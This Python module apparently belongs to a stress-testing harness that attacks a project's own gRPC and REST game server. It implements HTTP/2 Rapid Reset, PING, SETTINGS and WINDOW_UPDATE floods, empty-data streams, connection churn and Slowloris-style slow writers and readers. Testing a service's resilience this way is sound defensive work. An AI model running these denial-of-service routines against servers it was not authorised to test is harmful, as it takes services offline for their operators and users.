"""Attackers that misuse HTTP/2 and connections: many small things that cost a server more."""

from __future__ import annotations

import asyncio
import socket
import struct
from collections.abc import Callable, Iterator
from contextlib import suppress
from time import monotonic

from campaigns.attacks.requests import GAME, MIB, SOURCE
from campaigns.attacks.stage import Figures, Stage, Target, repeat
from tests.http2 import (
    CANCEL,
    DATA,
    END_HEADERS,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    connected,
    frame,
    grpc_fields,
    header_block,
)

# Connections that flood at once, and frames that each sends in one piece.
CONNECTIONS, FRAMES = 4, 200
# Connections that are opened and closed at once, and open ones that say nothing.
OPENERS, SILENT = 20, 300
# The most streams that a client can open on one connection.
MAX_STREAM = 2**31 - 1


async def flood(
    target: Target, stage: Stage, frames: Callable[[Connection], Iterator[bytes]]
) -> Figures:
    """Send frames as fast as they are taken, on connections that are opened again when they end."""
    sent = connections = 0
    longest = 0.0

    async def send(_: int) -> None:
        nonlocal sent, connections, longest
        async with connected(target.grpc, SOURCE) as connection:
            connections, begun = connections + 1, monotonic()
            source = frames(connection)
            with suppress(ConnectionError, StopIteration):
                while not connection.closed.is_set():
                    await connection.write(b"".join(next(source) for _ in range(FRAMES)))
                    sent += FRAMES
                    stage.begin()
                    # Frames that fit in the buffers of the kernel never wait otherwise.
                    await asyncio.sleep(0)
            longest = max(longest, monotonic() - begun)

    await repeat(stage, CONNECTIONS, send)
    return {"sent": sent, "connections": connections, "seconds": longest}


async def rapid_reset(target: Target, stage: Stage) -> Figures:
    """Calls that are cancelled as soon as they have begun."""
    block = header_block(grpc_fields(f"{GAME}GetGame", target.metadata))
    reset = struct.pack(">I", CANCEL)

    def frames(_: Connection) -> Iterator[bytes]:
        for stream in range(1, MAX_STREAM, 2):
            begun = frame(HEADERS, END_HEADERS, stream, block)
            yield begun + frame(RST_STREAM, 0, stream, reset)

    return await flood(target, stage, frames)


async def pings(target: Target, stage: Stage) -> Figures:
    """Pings, each of which must be answered."""
    return await flood_with(target, stage, frame(PING, 0, 0, bytes(8)))


async def settings(target: Target, stage: Stage) -> Figures:
    """Settings, each of which must be acknowledged."""
    return await flood_with(target, stage, frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)))


async def window_updates(target: Target, stage: Stage) -> Figures:
    """Room for answers, one byte at a time."""
    return await flood_with(target, stage, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


async def empty_data(target: Target, stage: Stage) -> Figures:
    """A message that never arrives, in frames without any byte."""
    empty = frame(DATA, 0, 1)

    def frames(connection: Connection) -> Iterator[bytes]:
        connection.call(f"{GAME}GetGame", target.metadata)
        while True:
            yield empty

    return await flood(target, stage, frames)


async def flood_with(target: Target, stage: Stage, same: bytes) -> Figures:
    """The same frame again and again."""

    def frames(_: Connection) -> Iterator[bytes]:
        while True:
            yield same

    return await flood(target, stage, frames)


async def connections(target: Target, stage: Stage) -> Figures:
    """Connections to both ports that are closed at once, next to many that stay open and silent."""
    opened = 0
    ports = [address.rpartition(":") for address in (target.grpc, target.rest)]

    async def connect(number: int) -> socket.socket:
        nonlocal opened
        host, _, port = ports[number % len(ports)]
        connection = socket.socket()
        connection.setblocking(False)
        try:
            connection.bind((SOURCE, 0))
            await asyncio.get_running_loop().sock_connect(connection, (host, int(port)))
        except BaseException:
            connection.close()
            raise
        opened += 1
        return connection

    async def open_and_close(number: int) -> None:
        for _ in range(FRAMES):
            (await connect(number)).close()
            stage.begin()

    silent = [await connect(number) for number in range(SILENT)]
    await repeat(stage, OPENERS, open_and_close)
    left = sum(map(is_open, silent))
    for connection in silent:
        connection.close()
    return {"opened": opened, "left": left}


def is_open(connection: socket.socket) -> bool:
    """Whether the other side has not closed a connection on which it may have said something."""
    with suppress(ConnectionError):
        try:
            while connection.recv(MIB):
                continue
        except BlockingIOError:
            return True
    return False


async def slow_writers(target: Target, stage: Stage) -> Figures:
    """REST requests that arrive byte by byte."""
    host, _, port = target.rest.rpartition(":")
    head = f"POST /v1/states:applyMoves HTTP/1.1\r\nhost: {host}\r\ncontent-length: 60000\r\n\r\n"
    longest = 0.0

    async def write(_: int) -> None:
        nonlocal longest
        reader, writer = await asyncio.open_connection(host, int(port), local_addr=(SOURCE, 0))
        begun = monotonic()
        stage.begin()
        try:
            for byte in head.encode() + b"{" * 60_000:
                writer.write(bytes([byte]))
                await writer.drain()
                if reader.at_eof():
                    break
                await asyncio.sleep(0.2)
        finally:
            longest = max(longest, monotonic() - begun)
            writer.close()

    await repeat(stage, SILENT, write)
    return {"held": SILENT, "seconds": longest}


async def slow_readers(target: Target, stage: Stage) -> Figures:
    """REST clients that read large answers byte by byte."""
    host, _, port = target.rest.rpartition(":")
    request = f"GET /openapi.json HTTP/1.1\r\nhost: {host}\r\n\r\n".encode()
    longest = 0.0

    async def read(_: int) -> None:
        nonlocal longest
        reader, writer = await asyncio.open_connection(
            host, int(port), local_addr=(SOURCE, 0), limit=1
        )
        begun = monotonic()
        stage.begin()
        try:
            writer.write(request * 50)
            while await reader.read(1):
                await asyncio.sleep(0.2)
        finally:
            longest = max(longest, monotonic() - begun)
            writer.close()

    await repeat(stage, SILENT // 2, read)
    return {"held": SILENT // 2, "seconds": longest}
